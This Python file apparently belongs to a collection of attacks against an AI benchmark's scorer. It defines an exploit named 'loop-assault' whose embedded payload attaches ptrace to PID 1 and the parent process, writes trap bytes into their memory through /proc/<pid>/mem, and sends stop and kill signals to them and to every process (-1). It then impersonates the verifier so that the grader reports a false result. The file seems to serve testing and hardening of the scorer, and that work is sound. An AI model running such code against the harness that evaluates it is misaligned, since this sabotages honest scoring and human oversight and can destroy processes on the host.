"""Kills, traces and impersonates the processes that the verifier runs in the same box."""

from scoring.attacks.exploit import Exploit
from scoring.attacks.verified import _late, _looks

CODE = """

import os as _os
import pathlib as _pathlib
import pydoc as _pydoc
import signal as _signal


def _assault(name="", function=None, args=(), kwargs=None):
    libc = _pydoc.locate("ctypes.CDLL")(None, use_errno=True)
    for pid in {1, _os.getppid()}:
        for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
            libc.ptrace(request, pid, None, None)
        try:
            with _pathlib.Path("/proc/%d/mem" % pid).open("r+b", buffering=0) as memory:
                memory.seek(0x400000)
                memory.write(b"\\xcc" * 64)
        except (OSError, ValueError):
            pass
    for pid in (1, _os.getppid(), -1):
        for number in (_signal.SIGSTOP, _signal.SIGTERM, _signal.SIGKILL):
            try:
                _os.kill(pid, number)
            except OSError:
                continue
    return function(*args, **(kwargs or {})) if function else None


if _os.path.exists("/opt/meltbench"):
    _impersonate(_assault)
"""

EXPLOIT = Exploit(
    name="loop-assault",
    flaw="feeds the grader",
    source="written against this scorer's own source",
    idea="the process that reports the result is the same user's; what the user may signal, trace or open is his",
    files={**_looks.LATE, "tmp/late.py": _late.IMPOSTOR + CODE},
    command="python3 /tmp/append.py",
    start="sloppy",
    aims_at="the request loop: the first process, which does not show itself",
)
